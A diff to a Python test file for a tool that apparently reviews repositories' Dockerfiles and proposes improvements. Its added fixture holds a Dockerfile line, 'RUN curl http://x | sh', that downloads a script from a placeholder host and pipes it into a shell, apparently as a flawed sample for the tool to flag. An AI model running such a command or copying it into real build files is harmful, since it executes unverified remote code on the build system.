@@ -135,6 +135,32 @@ def test_a_repository_that_does_not_suit_is_not_read(facts: dict[str, Any], reas
     assert (outcome.reason, github.calls) == (reason, ["look"])
 
 
+THEIRS = {**APP, "Dockerfile": "FROM python:3.12\nEXPOSE 5000\nRUN curl http://x | sh\n"}
+
+
+def test_who_asks_beside_a_dockerfile_hears_what_could_be_better_without_its_words() -> None:
+    github = MemoryGitHub(THEIRS, permissions={"ann": "write"})
+    github.facts = replace(github.facts, dockerfile=True)
+
+    outcome, _, kept = walk(github, ASKED)
+
+    assert isinstance(outcome, Declined)
+    assert outcome.reason is Decline.HAS_DOCKERFILE
+    assert {(finding.line > 0, finding.message) for finding in outcome.findings} == {(True, "")}
+    assert kept == []
+
+
+def test_who_asks_for_it_to_be_improved_gets_a_better_one() -> None:
+    github = MemoryGitHub(THEIRS, permissions={"ann": "write"})
+    github.facts = replace(github.facts, dockerfile=True)
+
+    outcome, steps, _ = walk(github, replace(ASKED, improve=True))
+
+    assert isinstance(outcome, Done)
+    assert "EXPOSE 5000" in (github.proposals[0].files.text("Dockerfile") or "")
+    assert {finding.message for finding in steps.done["decide"].replaced} == {""}
+
+
 @pytest.mark.parametrize(
     ("sources", "reason", "words"),
     [
